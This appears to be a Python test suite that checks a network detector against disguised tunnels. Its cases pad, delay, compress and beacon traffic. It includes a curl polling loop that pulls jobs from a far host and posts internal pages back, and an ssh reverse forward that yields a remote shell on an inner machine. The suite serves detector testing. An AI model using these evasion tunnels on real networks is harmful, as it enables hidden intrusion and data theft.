# SPDX-License-Identifier: Apache-2.0
"""Tunnels that aim at the detector: at each kind of evidence that it has, by what would take it away."""

import time

import lib_far as far
import lib_net as net
import lib_tunnel as tunnel
from lib_case import case


def disguised(c, port=443, pages=6, pause=0.6, **options):
    command, came = tunnel.courier(c, port, **options)
    c.call("ls")
    c.attack(command + " & " + c.until_done())
    c.begin()
    tunnel.browse(c, came(), pages, pause)


@case("tunnel", seconds=7, evasion=True, quick=True,
      why="sizes that are all the same join no way in to a way out")
def evade_padding(c):
    """each message filled up to 1400 bytes, inside of TLS: sizes say nothing"""
    disguised(c, tls=True, pad=1400)


@case("tunnel", seconds=7, evasion=True)
def evade_balance(c):
    """the far end sends as much junk as it gets: the byte balance is an innocent one"""
    disguised(c, tls=True, balance=True)


@case("tunnel", seconds=8, evasion=True, quick=True,
      why="what comes in waits for the next beat: neither the moment nor the initiative tells")
def evade_beat(c):
    """this end asks four times a second, the far end only ever answers: the initiative is inside's"""
    disguised(c, tls=True, beat=0.25)


@case("tunnel", seconds=8, evasion=True,
      why="the kernel joins what passes on within moments, and this waits longer")
def evade_delay(c):
    """100 ms between in and out, both ways"""
    disguised(c, delay=0.1)


@case("tunnel", seconds=22, evasion=True,
      why="seconds lie between in and out, and the kernel joins moments")
def evade_long_delay(c):
    """two seconds between in and out"""
    disguised(c, tls=True, delay=2.0, pages=3)


@case("tunnel", seconds=14, evasion=True,
      why="compressed and late: neither sizes nor times agree")
def evade_merge(c):
    """compressed, and what came within a second goes out as one: neither sizes nor times agree"""
    disguised(c, tls=True, deflate=True, merge=1.0)


@case("tunnel", seconds=12, evasion=True, quick=True,
      why="a polling client that compresses: neither sizes, times nor initiative tell")
def evade_http(c):
    """posts and their answers, twice a second, compressed: a polling client to look at"""
    disguised(c, 80, http=True, beat=0.5, deflate=True)


@case("tunnel", seconds=25, evasion=True,
      why="nothing of a relay is left to be seen but two connections of one program")
def evade_all(c):
    """TLS, WebSocket, this end leads, balanced, padded, compressed and late"""
    disguised(c, tls=True, ws=True, beat=0.5, balance=True, pad=900, deflate=True, delay=0.3, pages=4)


@case("tunnel", seconds=12, evasion=True)
def evade_shared(c):
    """one connection for an innocent chat of this end's and, between its messages, a tunnel"""
    command, came = tunnel.courier(c, 80, ws=True, chat=0.3)
    c.attack(command + " & " + c.until_done())
    c.begin()
    browser = came()
    time.sleep(4)
    tunnel.browse(c, browser, 4, 1.5)


@case("tunnel", seconds=75, evasion=True)
def evade_sleep(c):
    """one small page every twenty seconds"""
    disguised(c, tls=True, pages=4, pause=20)


@case("tunnel", seconds=14, evasion=True)
def evade_keepalive(c):
    """ssh -R with a keep-alive of this end's every second, a person at an inner shell"""
    far.shell_server(c, 2300 + c.number)
    far.sshd(c, 443)
    far.ssh_config(c, "RemoteForward %s:8000 %s:%d" % (c.far, far.INNER_SHELL, 2300 + c.number), "SessionType none",
                   "ServerAliveInterval 1", port=443)
    c.tool("ssh")
    c.attack("./worker -F config x & " + c.until_done())
    c.begin()
    with net.connect("far", *far.forwarded(c)) as s:
        time.sleep(5)
        c.mark()
        c.prove(b"uid=" in far.type_commands(s, ["id", "hostname", "ls /"]), "the far end's keys ran commands on an inner machine")


@case("tunnel", seconds=12, evasion=True, quick=True,
      why="the bytes lie in files between two calls, and each request is a connection of its own; the hand-over is in the record as an edge")
def evade_files(c):
    """no relay at all: call 1 polls the far end for jobs and posts answers, call 2 does the jobs; files lie between"""
    jobs, answers = [], []

    def handle(s):
        head = net.read_until(s, b"\r\n\r\n")
        if head.startswith(b"POST"):
            answers.append(head + net.read_all(s, 0.5))
            body = b"ok"
        else:
            body = jobs.pop(0) if jobs else b""
        s.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))

    far.serve(c, 80, handle)
    c.attack("(while :; do curl -s http://%s/news >job.new; [ -s job.new ] && mv job.new job; "
             "[ -e answer ] && mv answer a && curl -s --data-binary @a http://%s/log; sleep 0.4; done) >/dev/null 2>&1 &" % (c.far, c.far))
    c.attack("(while :; do [ -e job ] && mv job j && curl -s $(cat j) >answer.new && mv answer.new answer; sleep 0.2; done) >/dev/null 2>&1 & " + c.until_done())
    c.begin()
    for i in range(4):
        jobs.append(b"http://10.20.0.11/")
        c.mark()
        c.wait_for(lambda: len(answers) > i, 15, "an answer")
    c.prove(b"inside 10.20.0.11" in b"".join(answers), "the far end read pages of the internal network")
